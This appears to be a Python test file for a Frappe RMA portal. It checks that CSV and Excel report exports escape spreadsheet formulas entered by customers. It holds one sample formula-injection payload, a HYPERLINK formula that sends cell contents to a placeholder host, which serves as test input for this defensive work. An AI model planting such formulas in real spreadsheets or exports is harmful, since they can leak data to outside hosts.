"""Desk exports escape customer text that a spreadsheet would run as a formula."""

import csv
import json
from io import BytesIO, StringIO

import frappe
from frappe.tests.utils import FrappeTestCase
from openpyxl import load_workbook

from rma_portal.overrides import exports

FORMULA = '=HYPERLINK("https://x.example/?leak="&A1,"Details")'


class ExportEscapingChecks:
	"""The checks every export gets: its class gives export(file_format, **extra) -> the file, `key`
	(a value in the row holding the customer's text), `also_escaped` (more values the CSV row must
	hold, escaped) and the whitelisted method it overrides (`frappe_method`, `override`)."""

	also_escaped: tuple[str, ...] = ()

	def tearDown(self):
		frappe.db.rollback()
		frappe.local.response = frappe._dict()

	def csv_row(self, delimiter: str = ",", **extra) -> list[str]:
		text = self.export("CSV", **extra).decode()
		return next(r for r in csv.reader(StringIO(text), delimiter=delimiter) if self.key in r)

	def test_csv_export_escapes_formulas_and_keeps_numbers(self):
		row = self.csv_row()
		self.assertIn("'" + FORMULA, row)
		for value in self.also_escaped:
			self.assertIn(value, row)
		self.assertNotIn(FORMULA, row)

	def test_csv_export_with_semicolons(self):
		self.assertIn("'" + FORMULA, self.csv_row(";", csv_delimiter=";"))

	def test_excel_export_stores_the_formula_as_text(self):
		sheet = load_workbook(BytesIO(self.export("Excel"))).active
		cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == "'" + FORMULA]
		self.assertEqual(len(cells), 1)
		self.assertEqual(cells[0].data_type, "s")
		self.assertFalse(any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row))

	def test_portal_users_cannot_export(self):
		frappe.set_user("dealer@demo.example")
		with self.assertRaises(frappe.PermissionError):
			self.export("CSV")

	def test_exports_through_the_hook(self):
		self.assertEqual(
			frappe.get_hooks("override_whitelisted_methods")[self.frappe_method][-1], self.override
		)


class TestExportEscaping(ExportEscapingChecks, FrappeTestCase):
	frappe_method = "frappe.desk.reportview.export_query"
	override = "rma_portal.overrides.exports.export_report_view"
	also_escaped = ("'-2 units short",)

	def setUp(self):
		frappe.set_user("Administrator")
		self.rma = self.key = frappe.db.get_value("RMA", {"kind": "Return"}, "name")
		frappe.db.set_value("RMA", self.rma, "customer_reference", FORMULA)
		frappe.db.set_value("RMA", self.rma, "remarks", "-2 units short")

	def export(self, file_format: str, **extra) -> bytes:
		frappe.local.response = frappe._dict()
		frappe.local.form_dict = frappe._dict(
			doctype="RMA",
			fields=json.dumps(["`tabRMA`.`name`", "`tabRMA`.`customer_reference`", "`tabRMA`.`remarks`"]),
			filters=json.dumps([["RMA", "name", "=", self.rma]]),
			file_format_type=file_format,
			title="RMA",
			**extra,
		)
		exports.export_report_view()
		return frappe.response["filecontent"]


class TestQueryReportExportEscaping(ExportEscapingChecks, FrappeTestCase):
	"""The query reports' export (export_query_report) escapes what a customer typed, too: the RMA
	Analysis report grouped by customer shows the RMAs' customer name."""

	frappe_method = "frappe.desk.query_report.export_query"
	override = "rma_portal.overrides.exports.export_query_report"

	def setUp(self):
		frappe.set_user("Administrator")
		self.customer = self.key = frappe.db.get_value("RMA", {"kind": "Return"}, "customer")
		frappe.db.set_value("RMA", {"customer": self.customer}, "customer_name", FORMULA)

	def export(self, file_format: str, **extra) -> bytes:
		frappe.local.response = frappe._dict()
		frappe.local.form_dict = frappe._dict(
			report_name="RMA Analysis",
			file_format_type=file_format,
			filters=json.dumps(
				{
					"group_by": "Customer",
					"customer": self.customer,
					"from_date": "2000-01-01",
					"to_date": "2100-12-31",
				}
			),
			visible_idx="[0]",
			**extra,
		)
		exports.export_query_report()
		return frappe.response["filecontent"]
